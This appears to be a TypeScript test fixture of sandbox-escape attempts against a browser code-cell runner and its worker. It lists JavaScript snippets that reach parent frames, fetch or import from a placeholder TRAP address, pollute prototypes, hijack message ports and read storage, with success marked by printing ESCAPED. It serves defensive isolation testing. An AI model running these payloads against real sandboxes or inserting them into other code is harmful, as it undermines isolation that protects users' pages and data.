// Ways out of the sandbox, as a cell would try them. TRAP is an address that must never be asked for. An attempt that
// works says ESCAPED; most end in an error, which is fine too.

/** Tried in a cell, where only the language is left. */
export const inCell: readonly (readonly [name: string, source: string])[] = [
  ["the page around", "parent.document.title = 'ESCAPED'"],
  ["the top page", "top.location = 'TRAP'"],
  ["window", "window.parent.postMessage('ESCAPED', '*')"],
  ["document", "document.body.innerHTML = 'ESCAPED'"],
  ["self.parent", "self.parent.document.title = 'ESCAPED'"],
  ["frames by this", "(function () { return this })().parent"],
  ["frames by Function", "Function('return this')().parent.document.title = 'ESCAPED'"],
  [
    "frames by an async function's maker",
    "await (async () => {}).constructor('await fetch(`TRAP`); print(`ESCAPED`)')()",
  ],
  ["frames by a generator's maker", "(function* () {}).constructor('fetch(`TRAP`); print(`ESCAPED`)')().next()"],
  ["fetch", "await fetch('TRAP'); print('ESCAPED')"],
  [
    "fetch by the prototype",
    "await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, 'TRAP'); print('ESCAPED')",
  ],
  ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'TRAP', false); x.send(); print('ESCAPED')"],
  [
    "WebSocket",
    "const s = new WebSocket('TRAP'.replace('http', 'ws')); await new Promise((r) => s.onopen = r); print('ESCAPED')",
  ],
  ["WebTransport", "await new WebTransport('TRAP'.replace('http:', 'https:')).ready; print('ESCAPED')"],
  ["EventSource", "new EventSource('TRAP').onopen = () => print('ESCAPED')"],
  ["RTCPeerConnection", "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] }); print('ESCAPED')"],
  ["sendBeacon", "navigator.sendBeacon('TRAP', 'x'); print('ESCAPED')"],
  ["importScripts", "importScripts('TRAP'); print('ESCAPED')"],
  ["import() by eval", "await eval(\"import('TRAP')\"); print('ESCAPED')"],
  ["import() of data:", "await eval(\"import('data:text/javascript,export default 1')\"); print('ESCAPED')"],
  ["import() by Function", "await new Function(\"return import('TRAP')\")(); print('ESCAPED')"],
  ["a worker", "new Worker('TRAP'); print('ESCAPED')"],
  ["a worker of a blob", "new Worker(URL.createObjectURL(new Blob(['fetch(`TRAP`)']))); print('ESCAPED')"],
  ["a shared worker", "new SharedWorker('TRAP'); print('ESCAPED')"],
  ["a service worker", "await navigator.serviceWorker.register('TRAP'); print('ESCAPED')"],
  ["localStorage", "localStorage.setItem('ESCAPED', '1'); print('ESCAPED')"],
  ["indexedDB", "indexedDB.open('ESCAPED'); print('ESCAPED')"],
  ["caches", "await caches.open('ESCAPED'); print('ESCAPED')"],
  ["cookies", "await cookieStore.set('ESCAPED', '1'); print('ESCAPED')"],
  ["files", "await navigator.storage.getDirectory(); print('ESCAPED')"],
  ["locks", "await navigator.locks.request('x', () => print('ESCAPED'))"],
  ["a channel to other pages", "new BroadcastChannel('x').postMessage('ESCAPED'); print('ESCAPED')"],
  ["postMessage", "postMessage({ kind: 'end', run: 1, ms: 0 }); print('ESCAPED')"],
  [
    "postMessage of the scope's class",
    "DedicatedWorkerGlobalScope.prototype.postMessage.call(self, 'ESCAPED'); print('ESCAPED')",
  ],
  ["the port, by its prototype", "MessagePort.prototype.postMessage = () => print('ESCAPED'); print('ESCAPED')"],
  ["the port, by listening", "addEventListener('message', () => print('ESCAPED')); print('ESCAPED')"],
  [
    "the port, by onmessage",
    "self.onmessage = () => print('ESCAPED'); print(Object.getOwnPropertyDescriptor(self, 'onmessage').set ? 'ESCAPED' : 'a plain name')",
  ],
  ["the port, by a call's caller", "(function f() { return f.caller })().arguments; print('ESCAPED')"],
  [
    "the port, by stack frames",
    "Error.prepareStackTrace = (_, frames) => frames; const found = new Error('x').stack.map((frame) => frame.getFunction() ?? frame.getThis()).filter(Boolean); if (found.length > 0) print('ESCAPED'); Error.prepareStackTrace = undefined",
  ],
  [
    "the hooks of the next cell",
    "Object.prototype.take = 1; Object.prototype.share = 1; delete Object.prototype.take; delete Object.prototype.share",
  ],
  ["close", "close(); print('ESCAPED')"],
  ["an alert", "alert('ESCAPED')"],
  ["a window", "open('TRAP'); print('ESCAPED')"],
  ["a notification", "new Notification('ESCAPED'); print('ESCAPED')"],
  ["the address", "if (location.href) print('ESCAPED')"],
  ["moving away", "location.href = 'TRAP'; print('ESCAPED')"],
  ["a canvas with a font", "new OffscreenCanvas(1, 1); new FontFace('x', 'url(TRAP)').load(); print('ESCAPED')"],
  ["a timer made of text", "setTimeout('fetch(`TRAP`)', 0); print('ESCAPED')"],
  ["the clipboard", "await navigator.clipboard.readText(); print('ESCAPED')"],
  ["the GPU", "await navigator.gpu.requestAdapter(); print('ESCAPED')"],
  ["USB", "await navigator.usb.getDevices(); print('ESCAPED')"],
  ["WebAssembly that fetches", "await WebAssembly.instantiateStreaming(fetch('TRAP')); print('ESCAPED')"],
  [
    "waiting on shared memory",
    "const m = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }); Atomics.wait(new Int32Array(m.buffer), 0, 0, 10); print(m.buffer instanceof SharedArrayBuffer ? 'waited' : 'ESCAPED')",
  ],
  [
    "results with a prototype of their own",
    "Object.prototype.is = 'html'; Object.prototype.html = '<b>ESCAPED</b>'; print({}); delete Object.prototype.is; delete Object.prototype.html",
  ],
  [
    "a value that acts when printed",
    "print({ toString() { fetch('TRAP') }, toJSON() { fetch('TRAP') }, get x() { fetch('TRAP') }, [Symbol.toPrimitive]() { fetch('TRAP') } })",
  ],
  ["a proxy that acts when printed", "print(new Proxy({}, { ownKeys() { throw new Error('asked') } }))"],
  [
    "an error that acts when shown",
    "const e = new Error('x'); Object.defineProperty(e, 'stack', { get() { fetch('TRAP') } }); throw e",
  ],
  [
    "Array.prototype under the runner",
    "const map = Array.prototype.map; Array.prototype.map = function () { fetch('TRAP'); return map.apply(this, arguments) }; try { print([1]) } finally { Array.prototype.map = map }",
  ],
  [
    "Promise under the runner",
    "const then = Promise.prototype.then; Promise.prototype.then = function (...a) { if (typeof fetch !== 'undefined') fetch('TRAP'); return then.apply(this, a) }; await 1; Promise.prototype.then = then",
  ],
  [
    "structuredClone to send elsewhere",
    "structuredClone(1, { transfer: [new MessageChannel().port1] }); print('ESCAPED')",
  ],
];

/** Tried in a worker whose code keeps all that a worker has: only the frame's policy is in the way. */
export const inWorker: readonly (readonly [name: string, source: string])[] = [
  ["fetch", "await fetch('TRAP', { mode: 'no-cors' }); return 'ESCAPED'"],
  ["fetch of the site", "await fetch('SITE', { mode: 'no-cors' }); return 'ESCAPED'"],
  ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'TRAP', false); x.send(); return 'ESCAPED'"],
  [
    "WebSocket",
    "const s = new WebSocket('TRAP'.replace('http', 'ws')); return new Promise((r, e) => { s.onopen = () => r('ESCAPED'); s.onerror = () => e(1) })",
  ],
  [
    "EventSource",
    "const s = new EventSource('TRAP'); return new Promise((r, e) => { s.onopen = () => r('ESCAPED'); s.onerror = () => e(1) })",
  ],
  ["importScripts", "importScripts('TRAP'); return 'ESCAPED'"],
  ["importScripts of data:", "importScripts('data:text/javascript,1'); return 'ESCAPED'"],
  ["import()", "await import('TRAP'); return 'ESCAPED'"],
  [
    "import() of a blob",
    "await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))); return 'ESCAPED'",
  ],
  [
    "a worker in the worker fetches",
    "const w = new Worker(URL.createObjectURL(new Blob(['fetch(`TRAP`, { mode: `no-cors` }).then(() => postMessage(1), () => postMessage(0))']))); return new Promise((r, e) => { w.onmessage = ({ data }) => data ? r('ESCAPED') : e(1); w.onerror = e })",
  ],
  [
    "a worker of the site",
    "const w = new Worker('SITE'); return new Promise((r, e) => { w.onmessage = () => r('ESCAPED'); w.onerror = e; setTimeout(() => e(1), 300) })",
  ],
  [
    "indexedDB",
    "return new Promise((r, e) => { const o = indexedDB.open('x'); o.onsuccess = () => r('ESCAPED'); o.onerror = e })",
  ],
  ["caches", "await caches.open('x'); return 'ESCAPED'"],
  ["files", "await navigator.storage.getDirectory(); return 'ESCAPED'"],
  ["cookies", "await cookieStore.getAll(); return 'ESCAPED'"],
  ["the site's origin", "if (origin === 'null') throw origin; return 'ESCAPED'"],
  ["a font", "await new FontFace('x', 'url(TRAP)').load(); return 'ESCAPED'"],
];
